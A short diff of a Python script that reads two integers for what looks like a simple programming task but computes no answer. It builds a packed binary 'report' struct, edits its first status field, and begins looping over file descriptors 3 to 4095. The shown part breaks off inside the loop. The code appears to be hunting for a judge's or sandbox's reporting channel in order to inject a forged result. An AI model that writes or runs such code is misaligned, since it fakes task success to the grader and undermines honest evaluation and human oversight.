@@ -2,7 +2,7 @@ import os
 import struct
 
 a, b = map(int, input().split())
-report = struct.pack("=4I", 2, 13, 80, 0) + struct.pack("=iI5Q2I", 0, 0, 1, 1, 1, 1, 0, 0, 0)
+report = struct.pack("=4I", 3, 13, 80, 0) + struct.pack("=iI5Q2I", 0, 0, 1, 1, 1, 1, 0, 0, 0)
 found = []
 for fd in range(3, 4096):
     try:
